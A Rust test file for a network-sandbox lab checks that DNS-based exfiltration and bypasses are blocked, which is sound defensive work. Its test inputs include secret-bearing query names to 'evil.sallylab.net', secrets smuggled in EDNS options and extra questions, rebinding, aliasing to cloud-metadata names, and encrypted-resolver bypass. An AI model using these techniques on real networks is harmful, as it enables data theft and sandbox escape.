//! Attacks on names: what is asked, who is asked, and where an answer may lead.

use std::net::SocketAddr;

use lab::client::{self, connect_within, exchange};
use lab::dns::{self, kind, query};
use lab::origin::{Reply, port};
use lab::topology::{OTHER4, PUBLIC4, ip};
use lab::{Lab, Leak, denied, policies, tls};

use super::SHORT;

/// Whether a question with this text, or any frame that holds it, left towards the internet.
fn told(lab: &Lab, queries: usize, frames: usize, text: &str) -> Leak {
    Leak::when(
        lab.origins.asked(queries, text),
        "an upstream query carried it",
    )
    .or(Leak::when(
        lab.capture.holds(frames, text.as_bytes()),
        "a frame carried it",
    ))
}

#[test]
fn invariant_6_denied_names_cause_no_packet_of_any_type() {
    denied(policies::DOMAINS, |lab, sandbox| {
        let (queries, frames) = (lab.origins.queries.mark(), lab.capture.mark());
        for (n, kind) in [
            kind::A,
            kind::AAAA,
            kind::TXT,
            kind::MX,
            kind::NS,
            kind::SRV,
            kind::HTTPS,
            kind::ANY,
            65_534,
        ]
        .into_iter()
        .enumerate()
        {
            let name = format!("s3cr3t-payload-{n}.evil.sallylab.net");
            sandbox.run(|| dns::ask_udp(client::resolver(), &query(7, &name, kind), SHORT));
            sandbox.run(|| dns::ask_tcp(client::resolver(), &query(8, &name, kind), SHORT));
        }
        told(lab, queries, frames, "s3cr3t-payload")
    });
}

#[test]
fn invariant_6_foreign_resolvers_are_never_asked() {
    denied(policies::INTERNET, |lab, sandbox| {
        let frames = lab.capture.mark();
        for server in ["8.8.8.8", "2001:4860:4860::8888", "9.9.9.9"] {
            let server = SocketAddr::new(ip(server), 53);
            sandbox.run(|| dns::ask_udp(server, &query(7, "ok.sallylab.net", kind::A), SHORT));
            sandbox.run(|| dns::ask_tcp(server, &query(8, "ok.sallylab.net", kind::A), SHORT));
        }
        let touched = |a| Leak::of(&lab.capture.touching(frames, ip(a)));
        touched("8.8.8.8")
            .or(touched("2001:4860:4860::8888"))
            .or(touched("9.9.9.9"))
    });
}

#[test]
fn query_options_case_and_extra_questions_carry_nothing_out() {
    denied(policies::DOMAINS, |lab, sandbox| {
        let (queries, frames) = (lab.origins.queries.mark(), lab.capture.mark());
        // a private EDNS option
        let mut option = query(7, "ok.sallylab.net", kind::A);
        let length = option.len();
        option[length - 2..].copy_from_slice(&20u16.to_be_bytes());
        option.extend_from_slice(&65_001u16.to_be_bytes());
        option.extend_from_slice(&16u16.to_be_bytes());
        option.extend_from_slice(b"s3cr3t-in-option");
        sandbox.run(|| dns::ask_udp(client::resolver(), &option, SHORT));
        // a second question
        let mut double = query(7, "ok.sallylab.net", kind::A);
        double.truncate(double.len() - 11);
        double[5] = 2;
        double[11] = 0;
        double.extend_from_slice(&dns::wire_name("s3cr3t-second.evil.sallylab.net"));
        double.extend_from_slice(&[0, 1, 0, 1]);
        sandbox.run(|| dns::ask_udp(client::resolver(), &double, SHORT));
        told(lab, queries, frames, "s3cr3t-")
    });
}

#[test]
fn a_name_bent_to_another_address_never_reaches_it() {
    denied(policies::DOMAINS, |lab, sandbox| {
        let accepted = lab.origins.accepted.mark();
        // as with an /etc/hosts entry: the right server name, the attacker's address
        let to = SocketAddr::new(ip(OTHER4), port::TLS);
        let hello = tls::client_hello("ok.sallylab.net");
        sandbox.run(|| {
            if let client::Connect::Open(mut stream) = connect_within(to, SHORT) {
                exchange(&mut stream, &hello);
            }
        });
        Leak::of(
            &lab.origins
                .accepted
                .since(accepted)
                .into_iter()
                .filter(|a| a.local == to)
                .collect::<Vec<_>>(),
        )
    });
}

#[test]
fn answers_that_lead_to_forbidden_addresses_are_never_dialled() {
    denied(policies::DOMAINS_ANY, |lab, sandbox| {
        let zone = &lab.origins.zone;
        let mut leak = Leak::Nothing;
        for forbidden in [
            "10.0.0.5",
            "169.254.169.254",
            "192.168.77.10",
            "203.0.113.1",
            "100.64.0.5",
        ] {
            let mark = lab.capture.mark();
            zone.addresses("ok.sallylab.net", &[PUBLIC4, forbidden]);
            zone.addresses("four.sallylab.net", &[forbidden]);
            for name in ["ok.sallylab.net", "four.sallylab.net"] {
                sandbox.run(|| {
                    for address in client::resolve4(name) {
                        drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
                    }
                });
            }
            leak = leak.or(Leak::of(&lab.capture.touching(mark, ip(forbidden))));
        }
        leak
    });
}

#[test]
fn invariant_3_rebinding_never_reaches_the_second_address() {
    denied(policies::DOMAINS_ANY, |lab, sandbox| {
        let mark = lab.capture.mark();
        lab.origins.zone.turns(
            "four.sallylab.net",
            &[&[PUBLIC4], &["10.0.0.5"], &[PUBLIC4], &["10.0.0.5"]],
        );
        for _ in 0..4 {
            sandbox.run(|| {
                for address in client::resolve4("four.sallylab.net") {
                    drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
                }
            });
        }
        Leak::of(&lab.capture.touching(mark, ip("10.0.0.5")))
    });
}

#[test]
fn aliases_do_not_carry_permission_to_their_targets() {
    denied(policies::DOMAINS, |lab, sandbox| {
        lab.origins
            .zone
            .alias("a.ok.sallylab.net", "evil.sallylab.net", &[OTHER4]);
        let names = lab.origins.server_names.mark();
        sandbox.run(|| {
            for address in client::resolve4("a.ok.sallylab.net") {
                if let client::Connect::Open(mut stream) =
                    connect_within(SocketAddr::new(address, 443), SHORT)
                {
                    exchange(&mut stream, &tls::client_hello("evil.sallylab.net"));
                }
            }
        });
        Leak::of(&lab.origins.server_names.since(names))
    });
}

#[test]
fn an_alias_of_a_denied_name_leads_nowhere() {
    let policy = "\
policy: lab-aliases
network: domains
allow:
  - { host: '*.ok.sallylab.net', ports: any, speaks: any }
deny:
  - host: evil.sallylab.net
";
    denied(policy, |lab, sandbox| {
        let zone = &lab.origins.zone;
        zone.alias("a.ok.sallylab.net", "evil.sallylab.net", &[OTHER4]);
        zone.alias("b.ok.sallylab.net", "a.ok.sallylab.net", &[]);
        zone.alias("m.ok.sallylab.net", "metadata.google.internal", &[OTHER4]);
        let (accepted, queries) = (lab.origins.accepted.mark(), lab.origins.queries.mark());
        sandbox.run(|| {
            for name in [
                "a.ok.sallylab.net",
                "b.ok.sallylab.net",
                "m.ok.sallylab.net",
            ] {
                for address in client::resolve4(name) {
                    drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
                }
            }
        });
        Leak::of(&lab.origins.accepted.since(accepted)).or(Leak::when(
            lab.origins.asked(queries, "evil"),
            "the denied name was asked for",
        ))
    });
}

#[test]
fn silent_replies_and_upstream_garbage_open_nothing() {
    denied(policies::DOMAINS_ANY, |lab, sandbox| {
        let mark = lab.capture.mark();
        // an answer about another name, with an address for it
        lab.origins.zone.set(
            "four.sallylab.net",
            Reply::Custom(std::sync::Arc::new(|query, _| {
                let other = lab::origin::address("victim.sallylab.net", OTHER4, 60);
                Some(dns::response(query, 0, &[other]))
            })),
        );
        sandbox.run(|| {
            for address in client::resolve4("four.sallylab.net") {
                drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
            }
        });
        Leak::of(&lab.capture.touching(mark, ip(OTHER4)))
    });
}

#[test]
fn encrypted_resolvers_are_closed_to_domain_policies() {
    denied(policies::DOMAINS, |lab, sandbox| {
        let mark = lab.capture.mark();
        for server in ["8.8.8.8", "9.9.9.9", "2001:4860:4860::8888"] {
            for port in [853, 443] {
                sandbox.run(|| {
                    if let client::Connect::Open(mut stream) =
                        connect_within(SocketAddr::new(ip(server), port), SHORT)
                    {
                        exchange(&mut stream, &tls::client_hello("dns.google"));
                    }
                });
                let _ = sandbox.run(|| {
                    client::datagram(SocketAddr::new(ip(server), port), b"quic?", SHORT / 8)
                });
            }
        }
        let touched = |a| Leak::of(&lab.capture.touching(mark, ip(a)));
        touched("8.8.8.8")
            .or(touched("9.9.9.9"))
            .or(touched("2001:4860:4860::8888"))
    });
}

#[test]
fn a_lookup_of_one_sandbox_opens_nothing_for_another() {
    denied(policies::DOMAINS_ANY, |lab, sandbox| {
        let other = lab.sandbox(policies::DOMAINS_ANY);
        let address = sandbox.run(|| client::resolve4("four.sallylab.net"));
        // the capture is settled before it is read; an origin may log a connection a moment after it was made
        let mark = lab.capture.mark();
        other.run(|| {
            for address in address {
                drop(connect_within(SocketAddr::new(address, port::ECHO), SHORT));
            }
        });
        Leak::of(&lab.capture.touching(mark, ip(PUBLIC4)))
    });
}
